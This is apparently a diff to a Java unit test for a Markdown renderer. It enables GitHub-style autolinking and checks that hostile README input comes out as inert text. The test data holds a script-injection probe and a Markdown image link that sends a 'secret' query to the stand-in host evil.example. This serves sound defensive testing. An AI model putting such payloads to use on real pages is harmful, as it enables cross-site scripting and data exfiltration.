@@ -25,7 +25,9 @@ import org.junit.jupiter.api.Test;
 
 class MarkdownRendererTest {
 
-    private static final Parser PARSER = Parser.builder().build();
+    /** As GitHub renders Markdown: bare URLs and www. addresses become links unless neutralised. */
+    private static final Parser PARSER = Parser.builder()
+            .extensions(java.util.List.of(org.commonmark.ext.autolink.AutolinkExtension.create())).build();
 
     private static List<Node> descendants(Node root) {
         List<Node> all = new ArrayList<>();
@@ -55,7 +57,7 @@ class MarkdownRendererTest {
         MarkdownDocument readme = (MarkdownDocument) Rendered.file(Rendered.hostile(), "README.md");
         String text = descendants(PARSER.parse(readme.content())).stream().filter(Text.class::isInstance)
                 .map(n -> ((Text) n).getLiteral()).collect(Collectors.joining());
-        assertThat(text).contains("<script>alert(1)</script> ![x](https://evil.example/?q=secret) [link](https://evil.example/)",
+        assertThat(text.replace("\u200B", "")).contains("<script>alert(1)</script> ![x](https://evil.example/?q=secret) [link](https://evil.example/)",
                 "| cell | `code` <b>bold</b> &amp; \\");
     }
 
